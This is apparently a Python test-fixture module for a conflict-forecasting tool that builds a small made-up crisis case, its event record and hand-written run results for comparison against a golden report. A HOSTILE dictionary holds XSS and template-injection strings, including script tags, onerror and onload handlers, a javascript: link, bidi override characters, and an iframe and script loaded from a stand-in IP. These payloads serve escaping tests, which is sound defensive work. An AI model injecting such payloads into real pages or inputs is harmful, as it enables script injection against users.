"""Runs to report on: a small crisis judged for real, the same with hostile texts, one made by hand.

The hand-made run has no ensembles and every number written here, so that its page is the same on
any machine and can be held against a golden text.
"""

from __future__ import annotations

import datetime as dt
import functools
from dataclasses import replace

from judge.prior_fit import Spoken, prior_fit
from talion.judge.before_after import before_and_after
from talion.judge.estimate import Effect, Share
from talion.judge.labels import Label
from talion.judge.record_checks import RecordCheck
from talion.judge.results import JudgmentResult, PartResult, Receipt, RunResult
from talion.judge.run import judge_case
from talion.model.case import Case, parse_case
from talion.model.echo import consequences
from talion.record.event import (
    Absence,
    Actor,
    Conflict,
    Count,
    Coverage,
    Event,
    Harm,
    Source,
)
from talion.record.record import Record

NOTE = "The Guard attacks often.\nStrikes anger it, and its leaders say so.\nPeace would help.\n"

TEXT = """
talion: 1
title: {title}
as_of: 2024-06-01
as_of_note: the day of the note
horizon: [90 days, 180 days]
history_from: 2024-01-01
sources:
  note: {{title: Note on the Guard, dated: 2024-06-01, grade: C3, sha256: '{sha256}'}}
actors:
  guard: {{name: "{guard}", kind: armed group}}
  army: {{name: Army, kind: military}}
events:
  attack:
    title: "{attack}"
    by: guard
    against: army
    rows: {{action: [attack]}}
    usual: [8, 10, 12]
    marks: {{lethal: {{'yes': 10, 'no': 90}}}}
    totals: counted
    because: "{because}"
  strike: {{title: Strike, by: army, against: guard, rows: {{action: [strike]}}, usual: [1, 1.5, 2]}}
  demand: {{title: Demand that the army leave the valley, by: guard, usual: [2, 3, 4]}}
series: {{force: [attack, strike, demand]}}
factors:
  war: {{kind: observed, title: War, states: {{active: 1, ended: 0}}, values: {{2024-01-01: active}},
        then: active, because: given}}
  push: {{kind: imagined, title: Push, rest: [30, 45, 60], half_life: 30, noise: 5, because: given}}
  talks: {{kind: imagined, title: Talks, states: {{'on': 1, 'off': 0}}, then: 'off',
          set_by: [{{event: demand, to: 'on', chance: 10}}], because: given}}
links:
  L1: {{says: attack raises strike, strength: moderate, fades: days, origin: brief,
       because: "{because}", evidence: {{source: note, start: 0, end: 24, gist: "{gist}"}}}}
  L2: {{says: strike raises demand, share: [60, 75, 85], fades: days, origin: brief, because: anger,
       contested: the army, evidence: {{source: note, start: 25, end: 66, gist: anger}}}}
  L3: {{says: strike lowers push, strength: strong, origin: brief, because: fear, evidence: none}}
  L4: {{says: war raises attack, times: [2, 4, 8], origin: analyst, because: the war, evidence: none}}
issues:
  stay:
    title: How long to stay
    scale: {{0: leave, 100: stay}}
    positions: {{army: {{at: [60, 70, 80], power: 80, salience: 50, moved_by: {{push: -20}}, because: habit}}}}
decisions:
  leave: {{title: The stay is settled, issue: stay, called_by: [{{event: demand, chance: 5}}], error: 20,
          writes: outcome, agreed_at_most: 50}}
what_ifs:
  no_strikes: {{title: "{no_strikes}", from: as_of, do: [{{block: strike}}]}}
  peace: {{title: Peace, from: as_of, do: [{{set: war, to: ended}}]}}
judgments:
  J1: {{claim: "{claim}", kind: forecast, word: will, evidence: {{source: note, start: 0, end: 24, gist: "{gist}"}},
       holds_if: {{count: attack, at_least: 10}}, watch: a week without attacks, because: ten is often,
       also: {{many: {{title: many attacks, holds_if: {{count: attack, at_least: 60}}}}}}}}
  J2: {{claim: Strikes bring demands, kind: cause, word: unhedged, under: no_strikes, because: a quarter,
       holds_if: {{difference: {{count: demand, from: as_of, to: as_of + 90 days}}, lower_by: 25 %}},
       evidence_for: [{{rows: [s1], gist: a strike}}], watch: demands after the next strike}}
  J3: {{claim: There were at least ten attacks, kind: history, because: counted,
       holds_if: {{recorded: {{action: attack}}, at_least: 10}}}}
  J4: {{claim: The Guard wants the army gone, kind: motive, word: seemingly, testable: never,
       because: nobody asked it}}
"""

NO_ATTACKS = "  no_attacks: {title: No attacks, from: as_of, do: [{block: attack}]}\n"
ANSWERED = """
  J5: {claim: Attacks bring strikes, kind: cause, word: likely, under: no_attacks, because: a tenth,
       holds_if: {difference: {count: strike, from: as_of, to: as_of + 90 days}, lower_by: 12 %},
       watch: strikes after the next attack}
""".lstrip("\n")

CALM = {
    "title": "A small crisis",
    "guard": "Guard",
    "attack": "Attack",
    "because": "answers within days",
    "gist": "attacks are frequent",
    "no_strikes": "No strikes",
    "claim": "Attacks go on",
    "place": "East gate",
    "row_note": "rockets",
    "source": "Daily list",
    "country": "Eastland",
}

# What a record or a case may hold if someone means harm: markup, code, text that turns around.
HOSTILE = {
    "title": "'</title></script><script>window.hacked=1</script>'",
    "guard": "<img src=x onerror=window.hacked=1>",
    "attack": "</script><script>window.hacked=1</script>",
    "because": "'\\\"><svg onload=window.hacked=1> ${window.hacked=1} {{7*7}} {% raw %}'",
    "gist": "<a href=javascript:window.hacked=1>gist</a>",
    "no_strikes": "datum['x'] + (window.hacked=1)",
    "claim": "' onmouseover=window.hacked=1 <b>claim</b> \\u202Egnorw\\u2066",
    "place": "<iframe src=http://203.0.113.9/></iframe>",
    "row_note": '"><script src=http://203.0.113.9/x.js></script>',
    "source": "<style>body{display:none}</style>",
    "country": "--><script>window.hacked=1</script>",
}


def small_case(
    texts: dict[str, str] = CALM, sha256: str = "0" * 64, what_ifs: str = "", judgments: str = ""
) -> Case:
    """Return the small crisis with these texts, and further what-ifs and judgments, in it."""
    text = _with_outcome(TEXT.format(**texts, sha256=sha256)) + judgments
    text = text.replace("what_ifs:\n", f"what_ifs:\n{what_ifs}", 1)
    return parse_case(text, "small", small_record(texts))


def _with_outcome(text: str) -> str:
    factor = "  outcome: {kind: imagined, title: What was settled, rest: 100, because: given}\n"
    return text.replace("links:\n", f"{factor}links:\n", 1)


def small_record(texts: dict[str, str] = CALM) -> Record:
    """Return 24 attacks, 3 strikes, one of them disputed, totals, an absence and coverage."""
    start = dt.date(2024, 1, 3)
    events = [_event(f"a{i}", start + dt.timedelta(days=6 * i), "attack", texts) for i in range(24)]
    events += [
        _event(f"s{i + 1}", start + dt.timedelta(days=40 * i + 9), "strike", texts)
        for i in range(3)
    ]
    disputed = Conflict("deaths", (("1", "list"), ("6", "other")), note=texts["row_note"])
    events[3] = replace(events[3], conflicts=(disputed,), deaths=Harm(1, 1, 6))
    first, last = dt.date(2024, 1, 1), dt.date(2024, 6, 1)
    total = {"series": "counted", "of": "attack", "speaker": "Ministry", "definition": "attacks"}
    return Record(
        (first, last),
        sources=(
            Source("list", texts["source"], published=first, grade="B2", note=texts["row_note"]),
            Source("other", "Another list", published=first, grade="D4"),
        ),
        actors=(
            Actor("guard", texts["guard"], "armed group"),
            Actor("army", "Army", "military"),
        ),
        events=tuple(events),
        counts=(
            Count(**total, since=first, on=dt.date(2024, 2, 1), published=dt.date(2024, 2, 2), total=9,
                  split=(("east", 5), ("west", 3)), source="list"),
            Count(**total, since=first, on=dt.date(2024, 5, 1), published=dt.date(2024, 5, 2), total=30,
                  source="list"),
        ),
        absences=(
            Absence("attack", dt.date(2024, 5, 20), dt.date(2024, 5, 25), "Ministry", 0.8, "list",
                    dt.date(2024, 5, 26), note=texts["row_note"]),
        ),
        coverage=(
            Coverage("attack", first, last, "partial", texts["row_note"]),
            Coverage("strike", first, last, "near complete"),
        ),
    )  # fmt: skip


def _event(key: str, day: dt.date, action: str, texts: dict[str, str]) -> Event:
    by, against = ("guard", "army") if action == "attack" else ("army", "guard")
    return Event(
        key, day, day, "day", day, by, against, "ASSAULT", action,
        place=texts["place"], country=texts["country"], sources=("list",), note=texts["row_note"],
    )  # fmt: skip


@functools.cache
def judged(kind: str = "calm") -> RunResult:
    """Return the small crisis judged for real: 12 draws of 12 histories."""
    texts = {"calm": CALM, "hostile": HOSTILE}[kind]
    return judge_case(small_case(texts), draws=12, histories=12, seed=3, command="talion run small")


@functools.cache
def judged_with_record() -> RunResult:
    """Return the small crisis judged with a made-up fit: the record backs L1 and cannot inform L3.

    Demands are not recorded, so that a judgment on strikes, which are, is added.
    """
    case = small_case(what_ifs=NO_ATTACKS, judgments=ANSWERED)
    says = Spoken({"L1/attack>strike/share": 1.5}, {"L1/attack>strike": 1})
    fit = prior_fit(case, draws=40, says=says, informed=["L1", "L2", "L4"])
    return judge_case(case, fit, draws=30, histories=8, seed=3, command="talion run small")


def hand_made(sha256: str = "0" * 64) -> RunResult:
    """Return a run with every number written by hand and nothing simulated."""
    case = small_case(sha256=sha256)
    return RunResult(
        case=case,
        record=case.record,
        judgments=(_forecast(case), _cause(case), _history(case), _motive(case)),
        ensembles={},
        echo=consequences(case),
        before_after=before_and_after(case),
        warnings=("one draw in twelve is explosive",),
        receipt=Receipt(
            version="0.0.0",
            seed=3,
            draws=12,
            histories=6,
            reading_draws={"no_view": 12, "as_written": 12},
            as_of=case.as_of,
            window=case.record.period,
            case_hash="c" * 64,
            record_hash="d" * 64,
            command="talion run small",
            seconds=1.25,
            packages={"numpy": "2.0.0"},
        ),
    )


def share(p: float, low: float | None = None, high: float | None = None) -> Share:
    """Return a share with an interval, or without."""
    return Share(p, low if low is not None else p, high if high is not None else p, 0.02, 0.1, 0.4,
                 12, 72, 0.0, p, p)  # fmt: skip


def _forecast(case: Case) -> JudgmentResult:
    main = PartResult(
        "main@90", "", "attacks: at least 10", "share", "90 days, 30 August 2024", "baseline",
        {"no_view": share(0.55, 0.2, 0.9), "as_written": share(0.97, 0.88, 0.999)}, {}, None,
        Label.RESTS, "It holds if the author's links work as written (L1).",
        "As written: it holds in over 95 of 100 simulated histories.", False, ("L1", "L4"),
    )  # fmt: skip
    many = replace(main, id="many", title="many attacks", text="attacks: at least 60",
                   readings={"no_view": None, "as_written": share(0.003)}, label=Label.UNRESOLVED,
                   label_sentence="Not clearly likely.")  # fmt: skip
    return JudgmentResult(
        "J1", case.judgments["J1"], Label.RESTS, main.label_sentence, (main, many), main, False,
        ("L1", "L4"), (0.9, 1.0), "the word fits the model", "almost certain",
        "Confidence is low: the answer is in the assumption.", "Footing: 2 links.",
    )  # fmt: skip


def _cause(case: Case) -> JudgmentResult:
    main = PartResult(
        "main", "", "fewer demands without strikes", "effect", None, "no_strikes",
        {"no_view": share(0.5), "as_written": share(0.62)},
        {"no_view": Effect(0.0, -30.0, 31.0, "%", -25.0, 0.5, 0.1),
         "as_written": Effect(-34.0, -60.0, -10.0, "%", -25.0, 0.62, 0.1)}, None,
        Label.UNRESOLVED, "Even with the author's links as written it is not clearly likely.",
        "As written: the effect is large enough in 62 of 100 draws.", True, ("L2",),
    )  # fmt: skip
    return JudgmentResult(
        "J2", case.judgments["J2"], Label.UNRESOLVED, main.label_sentence, (main,), main, True, ("L2",),
        (0.9, 1.0), "", "likely", "Confidence is low.", "Footing: 1 link.",
    )  # fmt: skip


def _history(case: Case) -> JudgmentResult:
    check = RecordCheck(
        "holds", "24 attacks are listed.", {"listed": 24}, ("attack: partial",), ("a0", "a1")
    )
    main = PartResult(
        "main", "", "at least 10 recorded attacks", "record", None, "baseline", {}, {}, check,
        Label.CHECKED, "The record says: holds.", "", False, (),
    )  # fmt: skip
    return JudgmentResult(
        "J3", case.judgments["J3"], Label.CHECKED, main.label_sentence, (main,), main, False, (),
        (0.9, 1.0), "", "", "Confidence is moderate: the listing has gaps.", "",
    )  # fmt: skip


def _motive(case: Case) -> JudgmentResult:
    return JudgmentResult(
        "J4", case.judgments["J4"], Label.NOT_TESTABLE, "No event could show it wrong.", (), None, True,
        (), None, "", "", "No confidence is stated.", "",
    )  # fmt: skip
